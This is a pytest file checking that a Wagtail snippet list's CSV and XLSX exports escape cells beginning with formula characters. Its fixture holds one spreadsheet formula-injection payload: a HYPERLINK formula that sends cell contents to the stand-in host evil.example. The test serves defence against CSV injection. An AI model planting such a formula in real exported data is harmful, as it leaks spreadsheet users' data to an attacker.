"""The snippet list exports (CSV and XLSX from Wagtail's list_export) never hand a spreadsheet
a formula: text cells starting with = + - @ are escaped by the shared helper."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.table_factories import FoundationModelFactory, OrganisationFactory

HOSTILE_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"click")'


@pytest.fixture
def hostile_model(db):
    developer = OrganisationFactory(name="@SUM(1+1)", slug="at-sum")
    return FoundationModelFactory(
        name=HOSTILE_NAME, slug="formula-model", developer=developer, licence="-2+3"
    )


def export(admin_client, fmt):
    url = reverse("wagtailsnippets_directory_foundationmodel:list") + f"?export={fmt}"
    response = admin_client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_csv_export_of_a_snippet_named_with_a_formula_is_text(admin_client, hostile_model):
    text = export(admin_client, "csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    row = next(r for r in rows if r["Slug"] == "formula-model")
    assert row["Name"] == "'" + HOSTILE_NAME
    assert row["Developer"] == "'@SUM(1+1)"
    assert row["Licence"] == "'-2+3"
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_xlsx_export_escapes_the_same_cells(admin_client, hostile_model):
    workbook = load_workbook(io.BytesIO(export(admin_client, "xlsx")))
    rows = list(workbook.active.iter_rows(values_only=True))
    row = next(r for r in rows if "formula-model" in r)
    assert "'" + HOSTILE_NAME in row
    assert "'@SUM(1+1)" in row
